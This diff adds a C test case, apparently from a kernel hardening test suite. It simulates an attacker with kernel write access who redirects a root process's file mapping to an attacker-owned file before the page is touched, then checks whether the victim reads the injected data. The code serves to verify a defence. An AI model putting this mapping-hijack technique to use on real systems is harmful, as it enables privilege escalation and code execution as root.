@@ -1,0 +1,81 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * What: The program bends a mapping of root's program to a file of its own, before the page is
+ * touched.
+ * Stops it: What an area says is under a sum whose key is in no memory.
+ * Without: Root's program reads, and would run, what the attacker has written.
+ */
+#include "attack.h"
+
+ATTACK("cred_integrity", "area_other_file", "cred_integrity: an area is not as it was mapped",
+       "The program bends a mapping of root's program to a file of its own, before the page is "
+       "touched.",
+       "What an area says is under a sum whose key is in no memory.",
+       "Root's program reads, and would run, what the attacker has written.");
+
+static bool control(void)
+{
+	return is_ordinary();
+}
+
+/* The area at ADDRESS: struct tree begins with its root, a node is parent, left, right. */
+static uint64_t area_at(uint64_t task, uint64_t address)
+{
+	const uint64_t space = peek(task + member("task.space"));
+	uint64_t node = peek(space + member("address_space.areas"));
+
+	while (node != 0) {
+		const uint64_t area = node - member("area.node");
+
+		if (address < peek(area + member("area.start")))
+			node = peek(node + 8);
+		else if (address >= peek(area + member("area.end")))
+			node = peek(node + 16);
+		else
+			return area;
+	}
+	return 0;
+}
+
+/* The victim's mapping of its rules: it sleeps with the address in RBX. */
+static bool fire(void)
+{
+	const long own = call3(__NR_open, (long)"/tmp/own", O_RDWR | O_CREAT, 0600);
+	const uint64_t task = own_task();
+	const uint64_t victim = victim_task(task);
+	const uint64_t frame =
+		peek(victim + member("task.arch.stack_top")) - member("arch_frame.SIZE");
+	const uint64_t area = area_at(victim, peek(frame + member("arch_frame.rbx")));
+	uint64_t inode;
+
+	if (area == 0)
+		return false;
+
+	call4(__NR_pwrite64, own, (long)"Xown", 4, 0);
+	call4(__NR_pwrite64, own, (long)"Xown", 4, 4096);
+	inode = peek(file_struct(task, (int)own) + member("file.inode"));
+	poke(area + member("area.cache"), inode + member("inode.cache"));
+	poke(area + member("area.file"), file_struct(task, (int)own));
+	sleep_milliseconds(400);
+	return false;
+}
+
+/* Its own file of two pages: the first is touched now, the second later. */
+static void victim(void)
+{
+	const long file = call3(__NR_open, (long)"/rules", O_RDWR | O_CREAT, 0600);
+	static const long pause_time[2] = { 0, 300000000 };
+	volatile char *rules;
+
+	call4(__NR_pwrite64, file, (long)"rule", 4, 4096);
+	rules = (volatile char *)call6(__NR_mmap, 0, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE,
+				       file, 0);
+	rules[0] = 1;
+	__asm__ volatile("syscall"
+			 :
+			 : "a"(__NR_nanosleep), "D"(pause_time), "S"(0), "b"(rules)
+			 : "rcx", "r11", "memory");
+	if (rules[4096] == 'X')
+		say_result("WON");
+	victim_waits();
+}
